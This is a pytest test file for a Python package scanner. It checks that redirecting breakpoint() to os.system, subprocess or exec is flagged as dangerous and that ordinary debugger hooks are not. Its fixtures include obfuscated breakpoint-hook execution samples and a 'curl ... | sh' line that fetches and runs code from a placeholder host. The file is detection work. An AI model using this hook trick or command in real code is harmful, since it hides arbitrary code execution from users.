"""What a name denotes (``_scan._resolve``): blind17's ``breakpoint()`` made to call what
the file stores into ``PYTHONBREAKPOINT`` or ``sys.breakpointhook``."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import kept_by_the_prefilter


def danger(source: str, mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: tune b17-ds-breakpoint-hook, and the other ways to set the hook.
HOOKED = [
    "import os, base64\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\n"
    "breakpoint(base64.b64decode(C).decode())\n",
    "from os import environ\nenviron['PYTHONBREAKPOINT'] = 'subprocess.getoutput'\n"
    "breakpoint('curl -fsSL https://h.example/x | sh')\n",
    "import sys, os, zlib\nsys.breakpointhook = os.system\n"
    "breakpoint(zlib.decompress(C).decode())\n",
    "import sys, codecs\nsys.breakpointhook = exec\nbreakpoint(codecs.decode(C, 'hex'))\n",
]


@pytest.mark.parametrize("source", HOOKED)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_breakpoint_pointed_at_a_process_or_exec_runs_what_it_is_given(
    source: str, mode: ScanMode
) -> None:
    assert danger(source, mode) & {"CPL-THR-001", "CPL-THR-015"}


@pytest.mark.parametrize("source", HOOKED)
def test_a_hooked_breakpoint_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    kept_by_the_prefilter(tmp_path, monkeypatch, source)


@pytest.mark.parametrize(
    "source",
    [
        # a debugger chosen for breakpoint(), breakpoints turned off, a hook of the tool's own
        "import os\nos.environ['PYTHONBREAKPOINT'] = 'ipdb.set_trace'\nbreakpoint()\n",
        "import os\nos.environ['PYTHONBREAKPOINT'] = '0'\nbreakpoint()\n",
        "import sys\ndef hook(*a, **k):\n    print('breakpoint', a)\n"
        "sys.breakpointhook = hook\nbreakpoint('here')\n",
    ],
)
def test_a_debugger_or_no_hook_stays_clean(source: str) -> None:
    assert not danger(source)
